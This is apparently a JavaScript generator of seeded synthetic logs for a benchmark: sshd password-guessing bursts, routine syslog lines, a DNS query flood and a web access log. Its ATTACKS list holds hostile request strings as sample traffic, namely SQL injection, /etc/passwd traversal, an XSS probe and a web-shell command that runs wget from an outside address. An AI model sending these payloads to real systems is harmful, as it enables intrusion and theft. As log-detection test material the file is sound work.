/**
 * Makes the logs that the bench reads, the same ones for the same seed. A: a busy server whose log is mostly of other things, one line
 * in twenty is sshd's. B: a host on the internet that is guessed at day and night, as sshd tells it, from 20,000 addresses.
 */

import * as fs from 'node:fs';
import { random } from './random.mjs';

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
/** The year of all stamps; those of A do not tell it. */
export const YEAR = 2025;
const FIRST_MS = Date.UTC(YEAR, 0, 2);
const SPAN_MS = 300 * 86_400_000;
const ADDRESSES = 20_000;
const BATCH_BYTES = 1 << 20;

const KNOWN = ['root', 'backup', 'www-data', 'deploy', 'git'];
const STEMS = 'admin oracle test ubuntu ftp mysql guest user pi support postgres web dev demo hadoop jenkins nagios student minecraft steam'.split(
  ' ',
);

const BORING = [
  (n) => `CRON[${n}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`,
  (n) => `CRON[${n}]: pam_unix(cron:session): session closed for user root`,
  (n) => `postfix/smtpd[${n}]: disconnect from unknown[198.51.100.${n % 250}] ehlo=1 auth=0/1 quit=1 commands=2/3`,
  (n) => `systemd[1]: Started Session ${n} of user root.`,
  (n) => `polkitd[711]: Registered Authentication Agent for unix-process:${n}:1 (system bus name :1.${n})`,
  (n) => `dbus-daemon[520]: [system] Successfully activated service 'org.freedesktop.hostname1' request ${n}`,
  (n) => `dovecot: imap-login: Login: user=<u${n}@example.net>, method=PLAIN, rip=192.0.2.${n % 250}, lip=192.0.2.7, mpid=${n}, TLS`,
  (n) => `named[803]: client @0x7f3a2c0 192.0.2.${n % 250}#${n} (www.example.org): query: www.example.org IN A + (192.0.2.7)`,
];

const two = (n) => String(n).padStart(2, '0');

/** RFC 3164, as rsyslog's traditional format has it. */
function oldStamp(at) {
  const day = new Date(at);
  return `${MONTHS[day.getUTCMonth()]} ${String(day.getUTCDate()).padStart(2, ' ')} ${two(day.getUTCHours())}:${two(day.getUTCMinutes())}:${two(day.getUTCSeconds())}`;
}

/** RFC 3339 with microseconds, as Debian 12 writes it. */
function isoStamp(at, chance) {
  return `${new Date(at).toISOString().slice(0, 19)}.${String(Math.floor(chance() * 1e6)).padStart(6, '0')}+00:00`;
}

/** The lines of one connection of a guesser: few addresses are busy, most are rare (frequency falls off as 1/rank). */
function guessed(chance, pid) {
  const rank = Math.floor(ADDRESSES ** chance());
  const ip = `198.18.${(rank >> 8) & 255}.${rank & 255}`;
  const port = 1_024 + Math.floor(chance() * 60_000);
  const known = chance() < 0.4;
  const name = known
    ? KNOWN[Math.floor(chance() * KNOWN.length)]
    : `${STEMS[Math.floor(chance() * STEMS.length)]}${Math.floor(chance() ** 3 * 400) || ''}`;
  const lines = [];
  const say = (message) => lines.push(`sshd[${pid}]: ${message}`);
  if (!known) say(`Invalid user ${name} from ${ip} port ${port}`);
  for (let tries = 1 + Math.floor(chance() ** 2 * 3); tries > 0; tries -= 1) {
    if (!known) say('pam_unix(sshd:auth): check pass; user unknown');
    say(`pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip} ${known ? ` user=${name}` : ''}`);
    say(`Failed password for ${known ? '' : 'invalid user '}${name} from ${ip} port ${port} ssh2`);
  }
  if (chance() < 0.5) say(`Connection closed by ${known ? 'authenticating' : 'invalid'} user ${name} ${ip} port ${port} [preauth]`);
  else {
    say(`Received disconnect from ${ip} port ${port}:11: Bye Bye [preauth]`);
    say(`Disconnected from ${known ? 'authenticating' : 'invalid'} user ${name} ${ip} port ${port} [preauth]`);
  }
  return lines;
}

/** Writes about so many bytes; `share` of the lines are sshd's. Says how many lines there are, and how many of them are refused tries. */
export function corpus(file, { bytes, share, stamp, seed }) {
  const chance = random(seed);
  const out = fs.openSync(file, 'w');
  let lines = 0;
  let failures = 0;
  let written = 0;
  let batch = '';
  const flush = () => {
    written += fs.writeSync(out, batch);
    batch = '';
  };
  let pid = 1_000;
  let waiting = [];
  while (written < bytes) {
    const at = FIRST_MS + Math.floor((SPAN_MS * Math.min(bytes, written + batch.length)) / bytes);
    let line = '';
    if (chance() < share) {
      if (waiting.length === 0) {
        pid = pid >= 4_000_000 ? 1_000 : pid + 1 + Math.floor(chance() * 3);
        waiting = guessed(chance, pid);
      }
      line = waiting.shift();
      if (line.includes(': Failed password ')) failures += 1;
    } else line = BORING[Math.floor(chance() * BORING.length)](1_000 + Math.floor(chance() * 30_000));
    batch += `${stamp === 'old' ? oldStamp(at) : isoStamp(at, chance)} web1 ${line}\n`;
    lines += 1;
    if (batch.length >= BATCH_BYTES) flush();
  }
  fs.closeSync(out);
  return { lines, failures, bytes: fs.statSync(file).size };
}

/** How the lines of a corpus are written, about so many bytes of them; `make` gives one line at a time for a moment. */
function written(file, bytes, make) {
  const out = fs.openSync(file, 'w');
  let size = 0;
  let lines = 0;
  while (size < bytes) {
    let batch = '';
    while (batch.length < BATCH_BYTES) {
      batch += `${make(FIRST_MS + Math.floor((SPAN_MS * Math.min(bytes, size + batch.length)) / bytes))}\n`;
      lines += 1;
    }
    size += fs.writeSync(out, batch);
  }
  fs.closeSync(out);
  return { lines, bytes: size };
}

const address = (chance, most) => {
  const rank = Math.floor(most ** chance());
  return `198.${18 + (rank >> 16)}.${(rank >> 8) & 255}.${rank & 255}`;
};

/** An authentication log of which 58 % of the lines are refused passwords, from up to 50,000 addresses (frequency falls off as 1/rank). */
export function refused(file, bytes, seed) {
  const chance = random(seed);
  return written(file, bytes, (at) => {
    const pid = 1_000 + Math.floor(chance() * 60_000);
    if (chance() >= 0.58) return `${oldStamp(at)} web1 ${BORING[Math.floor(chance() * BORING.length)](pid)}`;
    const known = chance() < 0.5;
    const name = known ? 'root' : `${STEMS[Math.floor(chance() * STEMS.length)]}${Math.floor(chance() * 40)}`;
    const who = `${known ? '' : 'invalid user '}${name} from ${address(chance, 50_000)} port ${1_024 + Math.floor(chance() * 60_000)}`;
    return `${oldStamp(at)} web1 sshd[${pid}]: Failed password for ${who} ssh2`;
  });
}

/** A query log of BIND: four of five queries are of a flood for few names, the others of ordinary clients. */
export function queries(file, bytes, seed) {
  const chance = random(seed);
  return written(file, bytes, (at) => {
    const flood = chance() < 0.8;
    const name = flood ? `${STEMS[Math.floor(chance() * 5)]}.example` : `www${Math.floor(chance() * 9_000)}.example.net`;
    const day = new Date(at).toISOString();
    const stamp = `${day.slice(8, 10)}-${MONTHS[Number(day.slice(5, 7)) - 1]}-${day.slice(0, 4)} ${day.slice(11, 23)}`;
    const from = address(chance, flood ? 200 : 5_000);
    return `${stamp} queries: info: client @0x7f3a2c0${Math.floor(chance() * 9)} ${from}#${1_024 + Math.floor(chance() * 60_000)} (${name}): query: ${name} IN ${flood ? 'ANY' : 'A'} +E(0) (192.0.2.53)`;
  });
}

const PATHS = ['/', '/index.html', '/shop/item/', '/img/logo.png', '/css/site.css', '/api/v1/items?page=', '/blog/2025/'];
const ATTACKS = [
  '/index.php?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--',
  '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd',
  '/wp-login.php',
  '/?x=%3Cscript%3Ealert(1)%3C/script%3E',
  '/shell.php?cmd=id;wget+http://192.0.2.9/x',
];

/** A combined access log with two attacks in a hundred requests. */
export function access(file, bytes, seed) {
  const chance = random(seed);
  return written(file, bytes, (at) => {
    const attack = chance() < 0.02;
    const day = new Date(at).toISOString();
    const stamp = `${day.slice(8, 10)}/${MONTHS[Number(day.slice(5, 7)) - 1]}/${day.slice(0, 4)}:${day.slice(11, 19)} +0000`;
    const path = attack
      ? ATTACKS[Math.floor(chance() * ATTACKS.length)]
      : `${PATHS[Math.floor(chance() * PATHS.length)]}${Math.floor(chance() * 500)}`;
    const agent = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
    return `${address(chance, attack ? 300 : 8_000)} - - [${stamp}] "GET ${path} HTTP/1.1" ${attack ? 404 : 200} ${Math.floor(chance() * 40_000)} "-" "${agent}"`;
  });
}
